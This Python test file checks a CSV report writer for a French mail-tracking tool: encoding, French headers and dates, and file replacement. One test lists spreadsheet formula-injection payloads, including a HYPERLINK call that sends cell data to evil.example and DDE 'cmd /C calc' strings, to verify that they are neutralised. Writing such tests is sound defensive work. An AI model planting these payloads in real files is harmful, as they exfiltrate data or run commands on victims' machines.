"""The CSV report as a spreadsheet reads it: BOM, UTF-8, `;`, French headers and dates."""

from __future__ import annotations

import csv
import time
from datetime import UTC, datetime

import pytest

from imprimfip.letter_lines import Line
from imprimfip.outputs.report_csv import FILE_NAME, HEADERS, WriteFaults, render, write_report

DEPOSIT = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)


def line(**overrides: object) -> Line:
    values: dict[str, object] = {
        "letter_id": 1,
        "flow": "courrier",
        "file": "Relevé d'échéances.pdf",
        "internal_ref": "Releve_03032025100000@demo.pdf",
        "reference": "",
        "sending_type": "LRAR",
        "deposited_at": DEPOSIT,
        "status": "Refusé",
        "status_date": datetime(2025, 3, 7, 16, 45, tzinfo=UTC),
        "message": 'Pli refusé; motif : "destinataire absent"\nsecond ligne',
        "attention": "delivery",
        "followed": False,
    }
    return Line(**{**values, **overrides})  # type: ignore[arg-type]


def read_as_a_spreadsheet(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM tells Excel the file is UTF-8"
    text = data.decode("utf-8-sig")
    return list(csv.reader(text.splitlines(keepends=True), delimiter=";"))


@pytest.fixture
def in_paris(monkeypatch):
    """Dates are shown in the machine's zone: make it France's for the test."""
    monkeypatch.setenv("TZ", "Europe/Paris")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_headers_accents_separators_and_dates_read_back(in_paris):
    rows = read_as_a_spreadsheet(
        render([line(), line(reference="P2", status="Distribué", message="")])
    )
    assert ";".join(rows[0]) == (
        "date de dépôt;fichier;référence IMPRIM'FIP;type d'envoi;statut;date du statut;"
        "message;référence du pli"
    )
    first = rows[1]
    assert first[0] == "03/03/2025 10:00"
    assert first[1] == "Relevé d'échéances.pdf"
    assert first[3] == "Recommandé avec AR"
    assert first[4] == "Refusé"
    assert first[5] == "07/03/2025 17:45"
    assert first[6] == 'Pli refusé; motif : "destinataire absent"\nsecond ligne'
    assert rows[2][4] == "Distribué" and rows[2][7] == "P2"
    assert len(rows) == 3


def test_an_empty_flow_has_its_headers_only():
    assert read_as_a_spreadsheet(render([])) == [list(HEADERS)]


def test_the_report_is_replaced_whole_in_the_flow_folder(tmp_path):
    write_report(tmp_path / FILE_NAME, [line()])
    write_report(tmp_path / FILE_NAME, [line(), line(file="Deuxième.pdf")])
    assert [p.name for p in tmp_path.iterdir()] == [FILE_NAME]
    rows = read_as_a_spreadsheet((tmp_path / FILE_NAME).read_bytes())
    assert [r[1] for r in rows[1:]] == ["Relevé d'échéances.pdf", "Deuxième.pdf"]


def test_a_report_that_cannot_be_written_waits_before_it_is_tried_again(tmp_path):
    path = tmp_path / FILE_NAME
    path.mkdir()
    faults = WriteFaults()
    with pytest.raises(OSError) as raised:
        write_report(path, [line()])
    faults.failed("courrier", path, raised.value)
    assert not faults.due(path)
    faults.succeeded("courrier", path)
    assert faults.due(path)


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
        "+33 1 23 45 67 89",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(hostile):
    """File names come from anyone who can write to the share: a cell starting with what a
    spreadsheet reads as a formula gets a leading quote, so it is shown as text."""
    rows = read_as_a_spreadsheet(
        render([line(file=f"{hostile}.pdf", message=hostile, reference=hostile)])
    )
    row = rows[1]
    for cell in (row[1], row[6], row[7]):
        assert cell.startswith("'"), cell
    assert row[1] == f"'{hostile}.pdf"
    assert row[6] == f"'{hostile}"


def test_harmless_cells_are_left_as_they_are(in_paris):
    row = read_as_a_spreadsheet(render([line(file="a=b-c+d@e.pdf", message="")]))[1]
    assert row[1] == "a=b-c+d@e.pdf"
    assert row[0] == "03/03/2025 10:00"
